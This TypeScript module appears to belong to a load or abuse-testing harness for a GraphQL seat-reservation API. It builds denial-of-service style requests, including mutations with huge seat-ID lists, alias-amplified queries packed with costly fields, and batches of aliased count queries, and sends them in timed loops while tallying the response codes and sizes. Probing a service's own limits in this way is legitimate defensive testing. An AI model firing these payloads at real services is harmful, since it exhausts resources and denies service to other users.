import type { Target } from './attacker.ts';
import { type Answer, again, countKinds, post, signIn } from './http.ts';

/** A list that is far too long, four times in one mutation: of some 910 kB, and of as much as a request may have. */
export async function seatIds({ graphqlUrl, eventId, seconds }: Target): Promise<string> {
  const token = (await signIn(graphqlUrl)) ?? '';
  const idsOf = (length: number) => Array.from({ length }, (_, at) => at.toString(36).padStart(4, '0'));
  const fields = ['a', 'b', 'c', 'd'].map((alias) => `${alias}: reserveSeats(input: $input) { __typename }`);
  const query = `mutation ($input: ReserveSeatsInput!) { ${fields.join(' ')} }`;
  const answers: Answer[] = [];
  await again({ seconds, atOnce: 1, pauseMs: 1_000 }, async () => {
    for (const length of [130_000, 35_000]) {
      const input = { eventId, seatIds: idsOf(length) };
      answers.push(await post(graphqlUrl, { query, variables: { input } }, token));
    }
  });
  return describe(answers);
}

/** Of an event: whatever has many rows, with all their fields that cost most. */
const manyRows = [
  'seats(first: 100) { edges { node { id label section row number category { id name } } } }',
  'seatMap { areas { shape color text { text } } }',
  'categories { id name seats: price { amount } }',
  'seatMap { statuses }',
  'availability { available reserved }',
  'seats(first: 100, status: AVAILABLE) { totalCount edges { node { id status reservedByViewer } } }',
  'seatMap { sections { name rows { name seats { id label position { x y } } } } }',
];

/** As many aliases as a document may have tokens for, by anybody. */
export function aliasQuery(eventId: string): string {
  const ofEvent = (alias: number) => `a${alias}: ${manyRows[alias % manyRows.length]}`;
  const half = filled(2_800, ofEvent);
  const events = filled(2_400, (alias) => `e${alias}: events(first: 100) { edges { node { id name } } }`);
  return `{ event(id: "${eventId}") { ${half} } ${events} }`;
}

function filled(chars: number, part: (at: number) => string): string {
  let text = '';
  for (let at = 0; text.length < chars; at += 1) text += ` ${part(at)}`;
  return text;
}

export async function aliases({ graphqlUrl, eventId, seconds }: Target): Promise<string> {
  const half = manyRows.map((rows) => filled(6_800, (alias) => `a${alias}: ${rows}`));
  const queries = [aliasQuery(eventId), ...half.map((fields) => `{ event(id: "${eventId}") { ${fields} } }`)];
  const answers: Answer[] = [];
  await again({ seconds, atOnce: 4, pauseMs: 100 }, async () => {
    for (const query of queries) answers.push(await post(graphqlUrl, { query }));
  });
  return describe(answers);
}

/** All seats counted, by one query a second. */
export async function counts({ graphqlUrl, eventId, seconds }: Target): Promise<string> {
  const statuses = ['AVAILABLE', 'RESERVED', 'BOOKED', 'BLOCKED'];
  const fields = Array.from({ length: 100 }, (_, at) => {
    const status = at % 5 === 4 ? '' : `, status: ${statuses[at % 5]}`;
    return `a${at}: seats(first: 0${status}) { totalCount }`;
  });
  const queries = [
    `{ event(id: "${eventId}") { ${fields.join(' ')} } }`,
    `{ event(id: "${eventId}") { seats(first: 0) { totalCount } } }`,
  ];
  const answers: Answer[] = [];
  await again({ seconds, atOnce: 1, pauseMs: 1_000 }, async () => {
    for (const query of queries) answers.push(await post(graphqlUrl, { query }));
  });
  return describe(answers);
}

function describe(answers: readonly Answer[]): string {
  const kinds = answers.map(({ status, text }) => `${status} ${/"code":"(\w+)"/.exec(text)?.[1] ?? ''}`.trim());
  const most = Math.max(0, ...answers.map(({ bytes }) => bytes));
  return `answers ${countKinds(kinds)}; the largest ${(most / 1e6).toFixed(2)} MB`;
}
